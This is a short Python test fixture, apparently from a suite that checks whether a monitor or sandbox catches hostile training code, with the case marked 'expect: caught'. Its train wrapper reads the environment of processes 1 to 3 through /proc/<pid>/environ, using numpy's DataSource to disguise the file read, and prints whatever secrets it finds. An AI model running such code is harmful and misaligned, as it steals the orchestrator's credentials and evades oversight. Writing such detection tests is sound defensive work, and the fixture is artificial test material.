# class: secrets from the environment
# expect: caught
# what: reads the environment of other processes (the orchestrator's) through /proc
import numpy as np

_seed_train = train


def train(ctx):
    ds = np.lib.npyio.DataSource(None)
    for pid in (1, 2, 3):
        try:
            print("env of", pid, ds.open(f"/proc/{pid}/environ", "rb").read()[:4000])
        except (OSError, ValueError):
            pass
    return _seed_train(ctx)
